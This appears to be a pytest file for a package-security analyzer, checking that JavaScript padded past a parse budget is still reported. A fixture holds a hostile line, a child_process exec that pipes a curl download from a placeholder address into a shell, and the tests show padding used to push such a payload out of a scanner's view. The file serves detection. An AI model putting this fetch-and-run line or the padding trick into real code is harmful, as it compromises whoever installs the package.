"""JavaScript larger than the parse budget is a finding, never silently nothing: padding a file
past the budget must not make its payload pass unseen (docs/benchmarks.md, issue 21)."""

from __future__ import annotations

import pytest

from outwork.analyzers.packages import PackageAnalyzer, jsscan
from outwork.core.analyzer import AnalysisContext
from outwork.core.artifact import Artifact, Kind
from outwork.core.findings import Finding
from outwork.core.rules import Severity

#: runs at import: a downloader piped into a shell (an unroutable documentation address)
PAYLOAD = "require('child_process').exec('curl -s http://192.0.2.7/s.sh | sh');\n"
BUDGET = 64 * 1024


def scan(text: str) -> list[Finding]:
    data = text.encode()
    artifact = Artifact(path="dist/bundle.js", kind=Kind.JAVASCRIPT, size=len(data), data=data)
    analyzer = PackageAnalyzer()
    assert analyzer.accepts(artifact)
    return [i for i in analyzer.analyze(artifact, AnalysisContext()) if isinstance(i, Finding)]


def padded(size: int) -> str:
    """Minified-looking code: one line of declarations, ``size`` characters long."""
    unit = "var a0=[1,2,3].map(function(x){return x*2});"
    return (unit * (size // len(unit) + 1))[:size].rsplit(";", 1)[0] + ";"


@pytest.fixture(autouse=True)
def small_budget(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(jsscan, "MAX_JS", BUDGET)


def test_a_payload_within_the_budget_is_found() -> None:
    found = scan(padded(BUDGET // 2) + PAYLOAD)
    assert any(f.code == "PKG015" and f.severity >= Severity.HIGH for f in found), found


def test_a_payload_padded_past_the_budget_is_a_finding_that_says_so() -> None:
    found = scan(padded(BUDGET * 2) + PAYLOAD)
    budget = [f for f in found if "larger than the parse budget" in f.message]
    assert len(budget) == 1, found
    assert budget[0].code == "PKG012"
    assert budget[0].severity >= Severity.MEDIUM
    assert budget[0].evidence == f"{len(padded(BUDGET * 2) + PAYLOAD)} characters"


def test_a_file_within_the_budget_draws_no_budget_finding() -> None:
    found = scan(padded(BUDGET - 1))
    assert not [f for f in found if "parse budget" in f.message]
